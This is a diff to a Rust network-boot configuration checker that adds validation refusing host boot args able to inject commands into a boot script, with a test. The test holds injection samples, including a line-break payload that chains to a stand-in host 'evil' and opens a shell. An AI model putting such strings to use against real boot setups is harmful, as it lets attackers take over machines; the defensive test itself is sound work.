@@ -270,6 +270,15 @@ pub fn check(
                 "a host is found by `mac:`, `ip:` or both",
             ));
         }
+        // `${server}` is the one expansion rootsmith makes; the rest goes
+        // into the host's boot script as it is.
+        if let Err(why) = rootsmith_init::cmdline::check_script_safe(&raw_host.args.replace("${server}", "")) {
+            problems.push(problem(
+                spans.value(&format!("{path}.args")),
+                format!("host `{}`: args: {why}", raw_host.name),
+                "args are kernel command line words of printable ASCII; `${server}` is the only expansion",
+            ));
+        }
         let host = Host { name: raw_host.name.clone(), mac, ip, entry, args: raw_host.args.trim().to_string() };
         let keys = [
             ("name", Some(format!("name {}", host.name))),
@@ -312,5 +321,26 @@ mod tests {
             problems.iter().map(|p| (p.position.line, p.position.column, p.message.as_str())).collect();
         assert!(found.iter().any(|(line, column, message)| (*line, *column) == (4, 5) && message.contains("unknown field `colour`")), "{found:?}");
         assert!(found.iter().any(|(line, _, message)| *line == 6 && message.contains("duplicate MAC")), "{found:?}");
+    }
+
+    #[test]
+    fn host_args_that_a_boot_script_cannot_carry_are_refused_where_written() {
+        let bundle = BundleKernels { name: "lab".into(), version: "1.0.0".into(), kernels: vec!["debian".into()] };
+        let ok = "hosts:\n  - name: a\n    mac: 52:54:00:00:00:11\n    args: rootsmith.agent.image=${server}images/disk.img.zst quiet\n";
+        check_for_recipe(Path::new("hosts.yaml"), ok, &bundle).unwrap();
+        for (args, why) in [
+            ("\"quiet\\nchain http://evil/ && shell\"", "line break"),
+            ("\"quiet || shell\"", "boot scripts give a meaning"),
+            ("\"x=${next-server}\"", "boot scripts give a meaning"),
+        ] {
+            let source = format!("hosts:\n  - name: a\n    mac: 52:54:00:00:00:11\n    args: {args}\n");
+            let Err(Diagnostics(problems)) = check_for_recipe(Path::new("hosts.yaml"), &source, &bundle) else {
+                panic!("{args} passed")
+            };
+            assert!(
+                problems.iter().any(|p| (p.position.line, p.position.column) == (4, 11) && p.message.contains(why)),
+                "{args}: {problems:?}"
+            );
+        }
     }
 }
